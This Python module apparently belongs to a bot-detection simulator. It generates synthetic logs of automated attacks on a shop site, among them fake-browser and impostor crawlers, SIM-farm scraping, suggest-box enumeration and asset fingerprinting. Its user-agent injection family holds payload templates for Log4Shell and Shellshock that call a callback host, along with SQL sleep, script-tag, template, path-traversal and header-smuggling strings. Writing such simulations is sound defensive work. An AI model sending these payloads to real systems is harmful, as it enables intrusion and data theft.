"""Attacks on what there is to read and on what the site is made of: crawlers, walks, scanners."""

from __future__ import annotations

from typing import Final

import numpy as np

from floodwarden.simulate.declare import Strength, family
from floodwarden.simulate.machines import ENGINE
from floodwarden.simulate.scene import Rows, Scene, scripted, together
from floodwarden.simulate.world import ARTICLES, ITEMS, Ints

_APP_SESSION: Final = 28  # a device, a token, 22 items, 4 feeds
_COLORS: Final = ("red", "blue", "green", "black", "white", "grey", "brown", "pink", "gold", "teal")
_INJECTED: Final = (
    "${{jndi:ldap://{0}.cb.example/a}}", "${{${{lower:j}}ndi:dns://{0}.cb.example}}",
    "() {{ :;}}; ping -c1 {0}.cb.example", "Mozilla/5.0 (Windows NT 10.0)' AND SLEEP({0})-- ",
    "<script src=//{0}.cb.example></script>",
    "{{{{{0}*7}}}}", "../../../../etc/passwd%00{0}", "Mozilla/5.0\\r\\nX-Forwarded-For: 127.0.0.{0}",
)  # fmt: skip


@family(oat="OAT-011", weak=Strength(60, 0.5, 3000), medium=Strength(250, 2, 1200), strong=Strength(600, 6, 480))
def facet_crawl(scene: Scene, how: Strength) -> Rows:
    """A crawler that says it is a browser follows every filter of every list; hardly an address of a page comes twice.

    Dozens to hundreds of rented machines, old browsers' names, two minutes between two requests of one when it is weak
    and ten seconds when it is strong; an item now and then, no script, no robots.txt. The more there are, the more time
    out (up to one in five).

    Source: D. DeVault (SourceHut), "Please stop externalizing your costs directly into my face", 2025-03-17; Wikimedia
    Foundation, "How crawlers impact the operations of the Wikimedia projects", 2025-04-01.
    """
    rng = scene.rng
    n = max(how.sources, int(how.sources * how.per_s * how.lasts_s))
    at_s, ip = scene.scattered(n, how.lasts_s), scene.by_turns(scene.addresses(how.sources, "hosting"), n)
    agents = scene.world.agents.all(
        [
            f"Mozilla/5.0 (Windows NT 6.{one}) AppleWebKit/537.36 Chrome/{72 + one}.0.0.0 Safari/537.36"
            for one in range(4)
        ]
    )
    drawn = np.stack([rng.integers(0, most, n) for most in (10, 60, 8, 4, 200)], axis=1).tolist()
    asked = [
        f"/items?color={_COLORS[color]}&brand={brand}&size={size}&sort={sort}&page={page}"
        for color, brand, size, sort, page in drawn
    ]
    busy = min(0.2, n / how.lasts_s / 300)
    status = rng.choice([200, 504, 503], n, p=[1 - busy, busy * 0.6, busy * 0.4])
    ua = agents[ip % len(agents)]
    made = scene.requests(at_s, "list", path=asked, ip=ip, status=status, ua=ua)
    items = rng.random(n) < 0.15
    path = scene.world.items[rng.integers(0, ITEMS, n)]
    made[items] = scene.requests(at_s, "item", path=path, ip=ip, ua=ua)[items]
    return made


@family(oat="OAT-011", weak=Strength(3, 3, 3000), medium=Strength(10, 12, 1200), strong=Strength(20, 60, 480))
def impostor_crawler(scene: Scene, how: Strength) -> Rows:
    """Rented machines with the search engine's name, none of them its own, read articles, lists, items and reviews.

    They ask for robots.txt first, as it does, and keep an even pace; three in a hundred pages are gone (404).

    Source: Incapsula, study of Googlebot (to 24 of its visits one of somebody else under its name), 2014-07-24; Google
    Search Central, "Verifying Googlebot and other Google crawlers", read 2026-11.
    """
    rng = scene.rng
    at_s = 3 + scene.steady(how.sources * how.per_s, how.lasts_s, shape=8.0)
    n, pool = len(at_s), scene.addresses(how.sources, "hosting")
    ip, ua = scene.by_turns(pool, n), scene.tool(ENGINE)
    status, kind = scene.mostly(n, 200, 404, 0.03), rng.choice(4, n, p=[0.3, 0.25, 0.3, 0.15])
    world = scene.world
    made = scene.requests(at_s, "article", path=world.articles[np.arange(n) % ARTICLES], ip=ip, status=status, ua=ua)
    walk = (int(rng.integers(ITEMS)) + np.arange(n)) % ITEMS
    for number, endpoint, path in (
        (1, "list", world.lists[np.arange(n) % len(world.lists)]),
        (2, "item", world.items[walk]),
        (3, "reviews", world.reviews[walk]),
    ):
        here = kind == number
        made[here] = scene.requests(at_s, endpoint, path=path, ip=ip, status=status, ua=ua)[here]
    asked_s = rng.uniform(0, 3, how.sources)
    return together(scene.requests(asked_s, "missing", path="/robots.txt", ip=pool, ua=ua, status=404), made)


@family(oat="OAT-011", weak=Strength(16, 0.6, 3000), medium=Strength(60, 3, 1200), strong=Strength(120, 15, 480))
def sim_farm_scraping(scene: Scene, how: Strength) -> Rows:
    """The app's interface is read by a rack of telephones at the carriers that good clients have.

    A device is registered (201), a token fetched, then 22 items in no order and 4 feeds, seconds apart; then the next
    identity, from the address the carrier gives that telephone. The app's own user agent; one item in two hundred is
    gone (404).

    Source: Europol, Operation SIMCARTEL (1,200 boxes with 40,000 SIM cards, rented out), 2025-10-17.
    """
    rng = scene.rng
    n = max(1, int(how.sources * how.per_s * how.lasts_s / _APP_SESSION))
    begins_s = scene.scattered(n, max(1.0, how.lasts_s - 70))
    pool = scene.addresses(how.sources, "sim")
    ip = scene.by_turns(pool, n)
    steps = [("device", 0.0, 201), ("token", 1.0, 200)]
    steps += [("app_feed" if nth % 6 == 0 else "app_item", 2.5, 200) for nth in range(1, 27)]
    made = scripted(scene, begins_s, steps, ip=ip, ua=scene.tool("ShopApp/5.9.4 (Android 13)"))
    made["user"][2 * n :] = np.tile(scene.strangers(n, "installation"), _APP_SESSION - 2)
    items = np.flatnonzero(made["status"] == 200)
    items = items[made["endpoint"][items] == made["endpoint"][2 * n]]
    paths = scene.world.paths.all([f"/api/v2/items/{number}" for number in range(1, ITEMS + 1)])
    made["path"][items] = paths[np.resize(rng.permutation(ITEMS), len(items))]
    made["status"][items[rng.random(len(items)) < 0.005]] = 404
    return made


@family(oat="OAT-011", weak=Strength(1, 8, 2400), medium=Strength(4, 40, 900), strong=Strength(12, 85, 420))
def suggest_walk(scene: Scene, how: Strength) -> Rows:
    """All that the search box would suggest is taken out of it: aa, ab, ac and on, each beginning once.

    Below the limit of an address, with a browser's name and nothing else of a browser: no page, no script.

    Source: C. Hagen and others, "All the numbers are US: large-scale abuse of contact discovery", NDSS 2021; Facebook,
    533 million profiles by the contact importer, told 2021-04-06.
    """
    at_s = scene.steady(how.sources * how.per_s, how.lasts_s, shape=6.0)
    n = len(at_s)
    ip = scene.by_turns(scene.addresses(how.sources, "bot"), n)
    nth = int(scene.rng.integers(26**3)) + np.arange(n)
    asked = [f"/api/v1/suggest?q={_letters(one)}" for one in nth.tolist()]
    status = scene.mostly(n, 200, 503, 0.003)
    return scene.requests(at_s, "suggest", path=asked, ip=ip, status=status, ua=scene.browser(ip))


@family(oat="OAT-004", weak=Strength(2, 2, 2400), medium=Strength(6, 15, 900), strong=Strength(12, 80, 420))
def asset_guessing(scene: Scene, how: Strength) -> Rows:
    """What the site is built of is found out by its scripts: names with versions, source maps, old builds.

    Five in six are not there (404), on the route of scripts; the rest is what tells most: the front page, the health
    page, OPTIONS.

    Source: OWASP Automated Threat Handbook 1.2, OAT-004, 2018-02-15; OWASP Web Security Testing Guide 4.2, "Fingerprint
    web application framework", 2020-12-03.
    """
    rng = scene.rng
    at_s = scene.steady(how.sources * how.per_s, how.lasts_s)
    n = len(at_s)
    ip = scene.by_turns(scene.addresses(how.sources, "hosting"), n)
    ua = scene.browser(ip)
    stems = ("app", "vendor", "theme", "cart", "admin", "react", "jquery", "bootstrap", "chunk", "runtime")
    numbers = rng.integers(0, 40, (n, 3)).tolist()
    names = [
        f"/static/{stems[(a + nth) % len(stems)]}-{a % 5}.{b % 20}.{c % 10}.js{'.map' if nth % 3 == 0 else ''}"
        for nth, (a, b, c) in enumerate(numbers)
    ]
    made = scene.requests(at_s, "static", path=names, ip=ip, ua=ua, status=scene.mostly(n, 404, 200, 0.03))
    kind = rng.choice(4, n, p=[0.85, 0.06, 0.05, 0.04])
    for number, endpoint, status in ((1, "home", 200), (2, "health", 200), (3, "api_options", 204)):
        made[kind == number] = scene.requests(at_s, endpoint, ip=ip, ua=ua, status=status)[kind == number]
    return made


@family(oat="OAT-014", weak=Strength(3, 1, 3000), medium=Strength(20, 6, 900), strong=Strength(60, 20, 420))
def agent_injection(scene: Scene, how: Strength) -> Rows:
    """Ordinary pages are asked for as anybody asks; the attack stands in the user agent, another one each time.

    Look-ups, template expressions, shell and SQL, each with a number of its own to be called back by. The pages are
    there and are answered (200), one in twenty-five logs an error instead (500); a tenth are logins, which fail.

    Source: CVE-2021-44228 (Log4Shell); Cloudflare, "Actual CVE-2021-44228 payloads captured in the wild", 2021-12-10;
    CVE-2014-6271 (Shellshock in the user agent).
    """
    rng = scene.rng
    at_s = scene.steady(how.sources * how.per_s, how.lasts_s)
    n = len(at_s)
    ip = scene.by_turns(scene.addresses(how.sources, "hosting"), n)
    agents = scene.world.agents.all([form.format(number) for number in range(101, 141) for form in _INJECTED])
    ua, status = agents[rng.integers(0, len(agents), n)], scene.mostly(n, 200, 500, 0.04)
    made = scene.requests(at_s, "home", ip=ip, ua=ua, status=status)
    kind = rng.choice(5, n, p=[0.25, 0.3, 0.2, 0.15, 0.1])
    items, searches = scene.world.items[rng.integers(0, 300, n)], scene.by_turns(scene.world.searches, n)
    articles: Ints = scene.by_turns(scene.world.articles, n)
    for number, endpoint, path in ((1, "item", items), (2, "search", searches), (3, "article", articles)):
        here = kind == number
        made[here] = scene.requests(at_s, endpoint, path=path, ip=ip, ua=ua, status=status)[here]
    logins = scene.requests(at_s, "login", ip=ip, user=scene.strangers(n, "x"), ua=ua, status=401)
    made[kind == 4] = logins[kind == 4]
    return made


def _letters(number: int) -> str:
    """A number in base 26, written in letters, two at least: aa, ab, ..., zz, baa, ..."""
    text = ""
    while number > 0 or len(text) < 2:
        number, last = divmod(number, 26)
        text = chr(97 + last) + text
    return text
